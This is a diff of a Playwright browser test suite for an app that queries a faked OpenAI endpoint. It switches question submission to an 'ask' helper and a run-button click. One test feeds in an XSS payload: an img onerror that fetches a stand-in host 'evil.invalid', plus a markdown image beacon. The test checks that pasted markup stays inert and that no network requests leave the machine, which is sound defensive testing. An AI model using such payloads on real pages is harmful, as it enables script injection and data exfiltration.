@@ -4,7 +4,7 @@ from urllib.parse import urlsplit
 
 from playwright.sync_api import Page, expect
 
-from tests.browser.actions import look_at, paste, run_button, settled, use_endpoint
+from tests.browser.actions import ask, look_at, paste, run_button, settled, use_endpoint
 from tests.fake_openai import Answer, FakeOpenAI, Silence
 
 EVIL = "<img src=x onerror=\"fetch('http://evil.invalid/')\"> ![seen](http://evil.invalid/a.png)"
@@ -13,9 +13,9 @@ EVIL = "<img src=x onerror=\"fetch('http://evil.invalid/')\"> ![seen](http://evi
 def test_from_paste_to_every_call(page: Page):
     paste(page, "The pump failed at noon.\n\nA valve was closed by hand.\n\nIt rained.")
     expect(page.get_by_text("compact would make 1 call")).to_be_visible()
-    question = page.get_by_role("textbox", name="Question")
-    question.fill("What failed?")
-    question.press("Control+Enter")
+    expect(run_button(page)).to_be_disabled()
+    ask(page, "What failed?")
+    run_button(page).click()
     expect(page.get_by_text("compact made 1 call")).to_be_visible()
     expect(page.locator(".answer")).to_contain_text("The pump failed at noon.")
     look_at(page, "Calls")
@@ -50,9 +50,8 @@ def test_a_refresh_keeps_the_run(page: Page):
 
 def test_pasted_markup_is_text_and_nothing_leaves_the_machine(page: Page, requests: list[str]):
     paste(page, EVIL)
-    question = page.get_by_role("textbox", name="Question")
-    question.fill(EVIL)
-    question.press("Control+Enter")
+    ask(page, EVIL)
+    run_button(page).click()
     expect(page.get_by_text("compact made 1 call")).to_be_visible()
     for view in ("Calls", "Flow", "Coverage", "Data", "Plan", "Answer"):
         look_at(page, view)
